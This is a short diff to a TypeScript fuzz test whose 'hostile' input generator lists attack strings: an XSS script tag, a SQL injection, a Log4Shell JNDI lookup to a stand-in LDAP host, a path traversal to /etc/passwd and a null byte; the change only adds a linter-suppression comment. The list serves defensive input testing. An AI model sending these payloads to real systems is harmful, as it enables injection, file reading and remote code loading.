@@ -48,6 +48,7 @@ const hostile: fc.Arbitrary<unknown> = fc.oneof(
     '99 ',
     '<script>alert(1)</script>',
     "' or 1=1 --",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant as plain text
     '${jndi:ldap://x/a}',
     '../../etc/passwd',
     '%00',
